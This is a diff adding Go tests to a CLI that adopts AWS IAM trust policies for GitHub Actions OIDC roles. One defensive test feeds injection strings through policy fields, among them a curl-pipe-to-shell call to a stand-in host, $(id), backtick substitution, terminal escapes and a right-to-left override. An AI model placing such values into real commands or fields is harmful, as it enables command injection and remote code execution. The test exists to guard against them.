@@ -2,6 +2,7 @@ package main
 
 import (
 	"encoding/json"
+	"fmt"
 	"strings"
 	"testing"
 
@@ -162,5 +163,76 @@ func TestEveryRecordedRenderingIsAdoptedAndRenderedAgain(t *testing.T) {
 	}
 	if compared < 300 {
 		t.Errorf("only %d were compared", compared)
+	}
+}
+
+func TestTheAnswerOfGetRoleIsAdoptedUnderTheRolesName(t *testing.T) {
+	policy := policyOf(t, sections)
+	role := `{"Role":{"RoleName":"web-deploy","Arn":"arn:aws:iam::123456789012:role/web-deploy",` +
+		`"AssumeRolePolicyDocument":` + policy + `}}`
+	a := cli(t, role, "adopt", "--trust-policy", "-")
+	if a.code != 0 || !strings.Contains(a.out, "\n  web-deploy:\n") {
+		t.Errorf("exit %d: %s%s", a.code, a.out, a.err)
+	}
+}
+
+func TestAPolicyThatIsMoreThanCanBeLookedAtIsUndecided(t *testing.T) {
+	const issuer = "token.actions.githubusercontent.com"
+	names, ids := []string{}, []string{}
+	for i := range 300 {
+		names = append(names, fmt.Sprintf("repo:acme/r%d:ref:refs/heads/main", i))
+		ids = append(ids, fmt.Sprint(1000+i))
+	}
+	policy, err := json.Marshal(map[string]any{"Version": "2012-10-17", "Statement": map[string]any{
+		"Effect": "Allow", "Action": "sts:AssumeRoleWithWebIdentity",
+		"Principal": map[string]any{"Federated": "arn:aws:iam::123456789012:oidc-provider/" + issuer},
+		"Condition": map[string]any{"StringEquals": map[string]any{
+			issuer + ":aud": "sts.amazonaws.com", issuer + ":sub": names, issuer + ":repository_id": ids,
+		}},
+	}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	a := cli(t, string(policy), "adopt", "--trust-policy", "-")
+	if a.code != 3 || !strings.Contains(a.err, "could not be decided") {
+		t.Errorf("exit %d: %s%s", a.code, a.out, a.err)
+	}
+}
+
+// What stands in a policy is not the user's own text, and people paste what is printed.
+func TestNoTextOfAPolicyBecomesACommandAProgramOrAnEscape(t *testing.T) {
+	const issuer = "token.actions.githubusercontent.com"
+	for _, evil := range []string{
+		"1;curl evil.example|sh", "$(id)", "`id`", "1' ; id #", "7\n8", "\x1b[2J", "\u202e7", "x\"), evil(\"", "a: b # c",
+	} {
+		for _, claims := range []map[string]any{
+			{
+				issuer + ":sub": "repo:*:ref:refs/heads/main", issuer + ":repository_owner_id": "1",
+				issuer + ":repository_id": evil,
+			},
+			{issuer + ":sub": "repo:acme/web:environment:" + evil},
+			{issuer + ":sub": "repo:acme/web:ref:refs/heads/main", issuer + ":actor": evil},
+		} {
+			claims[issuer+":aud"] = "sts.amazonaws.com"
+			policy, err := json.Marshal(map[string]any{"Version": "2012-10-17", "Statement": map[string]any{
+				"Effect": "Allow", "Action": "sts:AssumeRoleWithWebIdentity", "Sid": "Sid" + evil,
+				"Principal": map[string]any{"Federated": "arn:aws:iam::123456789012:oidc-provider/" + issuer},
+				"Condition": map[string]any{"StringLike": claims},
+			}})
+			if err != nil {
+				t.Fatal(err)
+			}
+			a := cli(t, string(policy), "adopt", "--trust-policy", "-")
+			for line := range strings.Lines(a.out + a.err) {
+				if strings.Contains(line, "gh api repositories/") && strings.Contains(line, evil) ||
+					strings.ContainsAny(line, "\x1b\u202e") || strings.HasPrefix(line, "8") {
+					t.Errorf("%q is printed in %q", evil, line)
+				}
+			}
+			var program map[string]any
+			if err := yaml.Unmarshal([]byte(a.out), &program); err != nil || len(program) > 4 {
+				t.Errorf("%q: %v\n%s", evil, err, a.out)
+			}
+		}
 	}
 }
